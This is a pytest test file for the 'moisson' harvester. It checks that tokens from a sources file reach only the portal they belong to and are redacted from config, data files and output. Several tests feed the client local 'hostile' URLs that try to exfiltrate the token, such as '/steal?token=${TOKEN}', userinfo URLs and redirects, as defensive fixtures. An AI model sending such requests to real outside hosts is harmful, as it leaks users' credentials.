"""Credentials from the sources file reach the portal that asked for them, and nothing else: not another host, not
a file under the data directory, not the console, not Dagster's logs.

The servers run on 127.0.0.1 and refuse any request without the token; `moisson run` and `moisson check` are the
real console scripts, the token a random value in their environment.
"""

from __future__ import annotations

import base64
import gzip
import json
import secrets
import subprocess
import time
from pathlib import Path
from urllib.parse import quote, quote_plus

import duckdb
import pyarrow.parquet as pq
import pytest
import yaml

from e2e import MOISSON, corpus_rows, run_moisson
from harvest_helpers import fake_ckan
from moisson.config import ConfigError, load_config
from moisson.credentials import Credentials, keep_credential_references, redact_credentials
from moisson.layout import DataLayout
from portal_server import PortalServer
from sources.http import FetchError, HttpClient, HttpSettings
from sources.portal import harvest_catalogue, source_credentials

ARTICLE = ("<html><head><title>{title}</title></head><body><article><h1>{title}</h1>" + "<p>{body}</p>" * 6 +
           "</article></body></html>")
POLICY = {"languages": "all", "licenses": {"allow": ["CC-BY-4.0", "CC0-1.0"]}, "quality": {"enabled": False},
          "dedup": {"enabled": False}, "failures": {"max_rate": 1.0}}
OAI_PAGE = """<?xml version="1.0" encoding="UTF-8"?>
<OAI-PMH xmlns="http://www.openarchives.org/OAI/2.0/"><responseDate>2026-01-01T00:00:00Z</responseDate>
<request verb="ListRecords">{request}</request><ListRecords>{records}</ListRecords></OAI-PMH>"""
OAI_RECORD = """<record><header><identifier>oai:vault:{n}</identifier><datestamp>2026-01-0{n}T00:00:00Z</datestamp></header>
<metadata><oai_dc:dc xmlns:oai_dc="http://www.openarchives.org/OAI/2.0/oai_dc/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:title>Report {n}</dc:title><dc:rights>https://creativecommons.org/publicdomain/zero/1.0/</dc:rights>
<dc:identifier>{url}</dc:identifier></oai_dc:dc></metadata></record>"""
DCAT = """@prefix dcat: <http://www.w3.org/ns/dcat#> . @prefix dct: <http://purl.org/dc/terms/> .
@prefix hydra: <http://www.w3.org/ns/hydra/core#> .
<{base}/catalog> a dcat:Catalog ; dcat:dataset <{base}/ds/{n}> .
<{base}/ds/{n}> a dcat:Dataset ; dct:identifier "ds-{n}" ; dct:title "Dataset {n}" ;
  dct:license <https://creativecommons.org/licenses/by/4.0/> ; dcat:distribution <{base}/dist/{n}> .
<{base}/dist/{n}> a dcat:Distribution ; dcat:downloadURL <{download}> ; dct:format "HTML" .
"""


def sentence(topic: str) -> str:
    return (f"This report about {topic} explains how the city council gathered public opinions, weighed the costs "
            f"and published every decision with the reasons that led to it, so that residents can check the work.")


def article(topic: str) -> str:
    return ARTICLE.format(title=topic.title(), body=sentence(topic))


@pytest.fixture
def token(monkeypatch) -> str:
    value = secrets.token_urlsafe(18)  # 24 characters
    monkeypatch.setenv("TOKEN", value)
    return value


def forms(token: str) -> list[str]:
    """The token as it could be written anywhere: raw, percent-encoded, base64 alone and inside a Basic credential."""
    basic = base64.b64encode(f"moisson:{token}".encode()).decode()
    return list(dict.fromkeys([token, quote(token, safe=""), quote_plus(token),
                               base64.b64encode(token.encode()).decode().rstrip("="), basic.rstrip("=")]))


def guarded(check, answer):
    """A route that answers only requests carrying the credential (`check(query, headers)`), else 401."""
    def handler(query: dict, request: dict):
        return answer(query, request) if check(query, request) else (401, {"WWW-Authenticate": "Basic"}, b"no")
    return handler


def page(body: str, content_type: str = "text/html; charset=utf-8"):
    return lambda query, request: (200, {"Content-Type": content_type}, body.encode())


def client_for(source, **settings) -> HttpClient:
    options = {"min_interval_seconds": 0.0, "backoff_seconds": 0.01, "max_retries": 1,
               "allowed_addresses": frozenset({"127.0.0.1"}), **settings}
    return HttpClient(HttpSettings(**options), credentials=source_credentials(source))


def sources_file(tmp_path: Path, *sources: dict) -> Path:
    path = tmp_path / "sources.yaml"
    path.write_text(yaml.safe_dump({"sources": list(sources), "policy": POLICY,
                                    "http": {"requests_per_second": 100}}), encoding="utf-8")
    return path


# -- the sources file ---------------------------------------------------------------------------------------------

def test_references_in_scheme_host_and_port_are_expanded_and_credential_positions_kept():
    env, missing = {"PORTAL": "http://127.0.0.1:8080", "HOST": "h.example", "TOKEN": "t0k3n-value"}, set()
    keep = lambda value: keep_credential_references(value, env, missing)  # noqa: E731
    assert keep("${PORTAL}/oai?token=${TOKEN}") == "http://127.0.0.1:8080/oai?token=${TOKEN}"
    assert keep("https://user:${TOKEN}@${HOST}:9/x") == "https://user:${TOKEN}@h.example:9/x"
    assert keep("https://${HOST}/bot${TOKEN}/feed#${TOKEN}") == "https://h.example/bot${TOKEN}/feed#${TOKEN}"
    assert keep("dumps/${HOST}/*.warc.gz") == "dumps/h.example/*.warc.gz"  # a local path: nothing to keep
    assert keep("${PORTAL}/x?a=${UNSET}") == "http://127.0.0.1:8080/x?a=${UNSET}" and missing == {"UNSET"}


def test_credentials_stay_references_in_the_config_and_literal_ones_are_sealed(tmp_path, token, monkeypatch):
    monkeypatch.setenv("PORTAL", "http://127.0.0.1:9")
    path = sources_file(tmp_path,
                        {"name": "oai", "kind": "oai-pmh", "url": "${PORTAL}/oai?token=${TOKEN}&api_key=k3y-written&set=x"},
                        {"name": "ckan", "kind": "ckan", "url": "http://moisson:pa%40ss@127.0.0.1:9",
                         "headers": {"Authorization": "Bearer ${TOKEN}"}},
                        {"name": "warc", "kind": "warc", "paths": ["https://bucket.example/a.warc.gz?X-Amz-Signature=s1g"]})
    config = load_config(path)
    assert config.source("oai").url == "http://127.0.0.1:9/oai?token=${TOKEN}&api_key=${REDACTED_1}&set=x"
    assert config.source("oai").sealed_credentials == {"REDACTED_1": "k3y-written"}
    assert config.source("ckan").url == "http://moisson:${REDACTED_1}@127.0.0.1:9"
    assert config.source("ckan").headers == {"Authorization": "Bearer ${TOKEN}"}
    assert config.source("warc").paths == ["https://bucket.example/a.warc.gz?X-Amz-Signature=${REDACTED_1}"]
    assert all(secret not in repr(config) for secret in (token, "k3y-written", "pa%40ss", "s1g"))
    monkeypatch.delenv("TOKEN")
    with pytest.raises(ConfigError, match="TOKEN"):  # a kept reference must still be set when the file is read
        load_config(path)


def test_redaction_of_literal_credentials_in_text():
    text = "failed (https://u:pw@h.example/x?Token=abc&page=2&X-Amz-Signature=zz&sig=${SIG}) and http://h/?key="
    assert redact_credentials(text) == ("failed (https://u:REDACTED@h.example/x?Token=REDACTED&page=2"
                                        "&X-Amz-Signature=REDACTED&sig=${SIG}) and http://h/?key=")


# -- the wire -----------------------------------------------------------------------------------------------------

def test_credentials_go_to_their_origin_only_and_never_across_a_redirect(tmp_path, token):
    with PortalServer() as portal, PortalServer() as other:
        port = other.base.rsplit(":", 1)[1]
        portal.handler("/api", guarded(lambda q, r: q.get("token") == token and r.get("x-api-key") == token,
                                       page(f'{{"next": "{portal.base}/api?token={token}&page=2"}}', "application/json")))
        portal.file("/away", "", status=302, headers={"Location": f"http://127.0.0.1:{port}/landed?token=${{TOKEN}}"})
        portal.file("/back", "", status=302, headers={"Location": f"{portal.base}/api?token=%24%7BTOKEN%7D"})
        other.file("/landed", "landed")
        other.file("/steal", "stolen")
        source = load_config(sources_file(tmp_path, {"name": "p", "kind": "oai-pmh", "url": portal.base + "/api?token=${TOKEN}",
                                                      "headers": {"X-Api-Key": "${TOKEN}"}})).source("p")
        http = client_for(source)
        first = http.get(source.url)
        # the portal echoed the token in a link: it comes back as its reference, expanded again for the portal
        assert token not in first.body.decode() and "token=%24%7BTOKEN%7D&page=2" in first.body.decode()
        assert first.url == source.url and http.get(json.loads(first.body)["next"]).status == 200
        assert http.get(portal.base + "/back").status == 200  # a redirect back to the portal keeps its credentials
        assert http.get(portal.base + "/away").body == b"landed"
        for hostile in (f"{other.base}/steal?token=${{TOKEN}}", f"{other.base}/steal?token=%24%7BTOKEN%7D",
                        f"http://localhost:{portal.base.rsplit(':', 1)[1]}/api?token=${{TOKEN}}"):
            try:
                http.get(hostile)
            except FetchError as exc:  # localhost is not in allowed_addresses: refused, which sends nothing either
                assert token not in str(exc)
        with pytest.raises(FetchError) as caught:
            http.get(f"http://moisson:${{TOKEN}}@127.0.0.1:{port}/steal")
        assert caught.value.error_class == "RefusedAddress"
        seen_elsewhere = repr(other.log)
    assert [p for p, _, _ in other.log] == ["/landed", "/steal", "/steal"]
    assert all(form not in seen_elsewhere for form in forms(token)), seen_elsewhere
    assert "x-api-key" not in seen_elsewhere and "authorization" not in seen_elsewhere


def test_userinfo_becomes_basic_authorization_for_its_origin(tmp_path, token):
    expected = "Basic " + base64.b64encode(f"moisson:{token}".encode()).decode()
    with PortalServer() as portal:
        portal.handler("/files/a.html", guarded(lambda q, r: r.get("authorization") == expected, page("ok")))
        portal.file("/fail", "nope", status=500)
        source = load_config(sources_file(tmp_path, {"name": "c", "kind": "ckan",
                                                     "url": portal.base.replace("//", "//moisson:${TOKEN}@")})).source("c")
        http = client_for(source)
        assert http.get(portal.base + "/files/a.html").body == b"ok"  # a resource URL of the portal, no userinfo
        assert http.get(source.url + "/files/a.html").body == b"ok"
        with pytest.raises(FetchError) as caught:
            http.get(source.url + "/fail?token=${TOKEN}")
    assert "${TOKEN}" in str(caught.value) and all(form not in str(caught.value) for form in forms(token))


def test_an_echoed_token_in_a_turtle_next_link_is_followed_and_never_stored(tmp_path, token):
    """hydra:next repeats the query string: the stored checkpoint and pages hold the reference, never the value."""
    with PortalServer() as portal:
        pages = {"1": DCAT.format(base=portal.base, n=1, download=portal.base + "/f/1.html") +
                 f"<{portal.base}/catalog> hydra:next <{portal.base}/catalog.ttl?token={token}&page=2> .",
                 "2": DCAT.format(base=portal.base, n=2, download=portal.base + "/f/2.html")}
        portal.handler("/catalog.ttl", guarded(lambda q, r: q.get("token") == token, lambda q, r: (
            200, {"Content-Type": "text/turtle"}, pages[q.get("page", "1")].encode())))
        source = load_config(sources_file(tmp_path, {"name": "d", "kind": "dcat",
                                                     "url": portal.base + "/catalog.ttl?token=${TOKEN}"})).source("d")
        config = load_config(tmp_path / "sources.yaml")
        layout = DataLayout.at(tmp_path / "data")
        result = harvest_catalogue(config, source, layout, client_for(source))
    assert result.complete and result.pages == 2 and {d.dataset_id for d in result.datasets} == {"ds-1", "ds-2"}
    assert leaks(layout.root, forms(token)) == []


def test_an_echoed_token_in_a_resumption_token_is_sent_back_and_never_stored(tmp_path, token):
    """The repository puts the token into its resumptionToken: the checkpoint keeps the reference (encoded twice
    by the connector's urlencode), and the next request carries the token as the repository wrote it."""
    records = {n: OAI_RECORD.format(n=n, url=f"http://example.org/{n}.html") for n in (1, 2)}

    def oai(query: dict, request: dict):
        if query.get("token") != token:
            return 401, {}, b"no"
        if "resumptionToken" not in query:
            listed = records[1] + f"<resumptionToken>page2|{token}</resumptionToken>"
        elif query["resumptionToken"] == f"page2|{token}":
            listed = records[2]
        else:
            return 200, {"Content-Type": "text/xml"}, b"<OAI-PMH xmlns='http://www.openarchives.org/OAI/2.0/'>" \
                b"<error code='badResumptionToken'/></OAI-PMH>"
        return 200, {"Content-Type": "text/xml"}, OAI_PAGE.format(request="", records=listed).encode()

    with PortalServer() as portal:
        portal.handler("/oai", oai)
        config = load_config(sources_file(tmp_path, {"name": "o", "kind": "oai-pmh", "url": portal.base + "/oai?token=${TOKEN}"}))
        layout = DataLayout.at(tmp_path / "data")
        result = harvest_catalogue(config, config.source("o"), layout, client_for(config.source("o")))
    assert result.complete and {d.dataset_id for d in result.datasets} == {"oai:vault:1", "oai:vault:2"}, result.failures
    assert leaks(layout.root, forms(token)) == []


def test_a_reference_whose_variable_is_gone_is_a_fetch_failure_naming_it():
    http = HttpClient(HttpSettings(allowed_addresses=frozenset({"127.0.0.1"})),
                      credentials=Credentials(["http://127.0.0.1:9/oai?token=${GONE}"], environ={}))
    with pytest.raises(FetchError) as caught:
        http.get("http://127.0.0.1:9/oai?token=${GONE}&verb=Identify")
    assert caught.value.error_class == "MissingCredential" and "GONE" in str(caught.value)


# -- end to end ---------------------------------------------------------------------------------------------------

def test_moisson_run_sends_credentials_and_stores_or_prints_none(tmp_path, token):
    basic = "Basic " + base64.b64encode(f"moisson:{token}".encode()).decode()
    with PortalServer() as oai, PortalServer() as ckan, PortalServer() as dcat, PortalServer() as hostile:
        # token in the query string; the repository echoes it in its request element and in its record links
        has_token = lambda q, r: q.get("token") == token  # noqa: E731
        records = "".join(OAI_RECORD.format(n=n, url=f"{oai.base}/reports/{n}.html?token={token}") for n in (1, 2))
        oai.handler("/oai", guarded(has_token, page(OAI_PAGE.format(request=f"{oai.base}/oai?token={token}",
                                                                    records=records), "text/xml")))
        for n in (1, 2):
            oai.handler(f"/reports/{n}.html", guarded(has_token, page(article(f"report {n} on bridges"))))
        # token in the userinfo; the catalogue also lists hostile resources naming ${TOKEN} on another port
        has_basic = lambda q, r: r.get("authorization") == basic  # noqa: E731
        ckan.handler("/files/0.html", guarded(has_basic, page(article("rivers"))))
        ckan.handler("/go", guarded(has_basic, lambda q, r: (302, {"Location": f"{hostile.base}/redirected?token=${{TOKEN}}"}, b"")))
        stolen = [f"{hostile.base}/steal?token=${{TOKEN}}", f"{hostile.base}/steal-encoded?token=%24%7BTOKEN%7D",
                  hostile.base.replace("//", "//moisson:${TOKEN}@") + "/steal-userinfo", ckan.base + "/go"]
        resources = [{"id": "res-0", "url": ckan.base + "/files/0.html", "format": "HTML"}] + [
            {"id": f"hostile-{n}", "url": url, "format": "HTML"} for n, url in enumerate(stolen)]
        packages = [{"id": "pkg-0", "name": "dataset-0", "title": "Dataset 0", "license_id": "cc-by-4.0",
                     "metadata_modified": "2026-01-01T10:00:00.000000", "state": "active", "resources": resources}]
        ckan.handler("/api/3/action/package_search", guarded(has_basic, fake_ckan(packages)))
        # token in a header; a distribution points at the hostile port
        has_bearer = lambda q, r: r.get("authorization") == f"Bearer {token}"  # noqa: E731
        turtle = DCAT.format(base=dcat.base, n=1, download=dcat.base + "/f/1.html") + DCAT.format(
            base=dcat.base, n=2, download=hostile.base + "/steal-header")
        dcat.handler("/catalog.ttl", guarded(has_bearer, page(turtle, "text/turtle")))
        dcat.handler("/f/1.html", guarded(has_bearer, page(article("schools"))))
        for path in ("/steal", "/steal-encoded", "/redirected", "/steal-header"):
            hostile.file(path, "gone", status=404)

        local = {"allow_private_addresses": True}
        sources = sources_file(
            tmp_path,
            {"name": "vault-oai", "kind": "oai-pmh", "url": oai.base + "/oai?token=${TOKEN}", **local},
            {"name": "vault-ckan", "kind": "ckan", "url": ckan.base.replace("//", "//moisson:${TOKEN}@"), **local},
            {"name": "vault-dcat", "kind": "dcat", "url": dcat.base + "/catalog.ttl",
             "headers": {"Authorization": "Bearer ${TOKEN}"}, **local})
        data = tmp_path / "data"
        run = run_moisson(sources, data)
        check = subprocess.run([str(MOISSON), "check", "--sources", str(sources)], capture_output=True, text=True,
                               timeout=120)
        hostile_log = repr(hostile.log)
        hostile_paths = sorted(p for p, _, _ in hostile.log)

    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    assert check.returncode == 0 and "token=${TOKEN}" in check.stdout, check.stdout + check.stderr
    kept = sorted((source, url.split("/")[-1].split("?")[0]) for source, url in corpus_rows(data, "source, url"))
    assert kept == [("vault-ckan", "0.html"), ("vault-dcat", "1.html"), ("vault-oai", "1.html"), ("vault-oai", "2.html")]
    # the hostile port was asked (so the test could see a leak), and never with the token
    assert {"/steal", "/steal-encoded", "/redirected", "/steal-header"} <= set(hostile_paths), hostile_paths
    assert "/steal-userinfo" not in hostile_paths  # refused before connecting: credentials in a URL not ours
    assert all(form not in hostile_log for form in forms(token)) and "authorization" not in hostile_log
    printed = run.stdout + run.stderr + check.stdout + check.stderr
    assert [form for form in forms(token) if form in printed] == []
    assert leaks(data, forms(token)) == []


def leaks(root: Path, needles: list[str]) -> list[str]:
    """Files under `root` holding a needle: raw bytes, decompressed gzip, every Parquet value, every DuckDB value."""
    found = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        texts = [path.read_bytes()]
        if texts[0][:2] == b"\x1f\x8b":
            texts.append(gzip.decompress(texts[0]))
        if texts[0][:4] == b"PAR1":
            texts.append(repr(pq.read_table(path).to_pylist()).encode())
        if path.suffix == ".duckdb":
            texts.append(_duckdb_values(path).encode())
        found += [f"{path.relative_to(root)}: {needle}" for needle in needles if any(needle.encode() in t for t in texts)]
    return found


def _duckdb_values(path: Path) -> str:
    for _ in range(50):  # the run has closed it; a slow filesystem may still hold the lock for a moment
        try:
            con = duckdb.connect(str(path), read_only=True)
            break
        except duckdb.IOException:
            time.sleep(0.1)
    with con:
        tables = con.execute("SELECT table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE'").fetchall()
        return "\n".join(repr(con.execute(f'SELECT * FROM "{name}"').fetchall()) for (name,) in tables)
